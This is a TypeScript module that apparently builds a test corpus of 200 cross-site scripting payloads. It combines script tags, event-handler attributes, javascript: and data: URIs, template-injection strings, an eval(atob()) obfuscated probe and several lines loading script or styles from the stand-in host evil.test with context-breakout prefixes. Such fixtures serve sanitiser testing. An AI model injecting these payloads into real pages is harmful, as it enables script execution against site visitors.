/** What has run as a script in somebody's page: elements that act by themselves, each with a way to say that they did. */
const actors = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<iframe onload=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><input type=submit>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<math><mtext><script>alert(1)</script>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css";</style>',
  '<style onload=alert(1)></style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
] as const;

/** Ways out of where a text stands: an attribute, a title, a box, a script, a comment. */
const exits = ['', '">', "'>", '</textarea></title>', '--></script>'] as const;

/** 200 texts that would run somewhere, if any place took them for more than text. */
export const hostileTexts: string[] = exits.flatMap((exit) => actors.map((actor) => exit + actor));
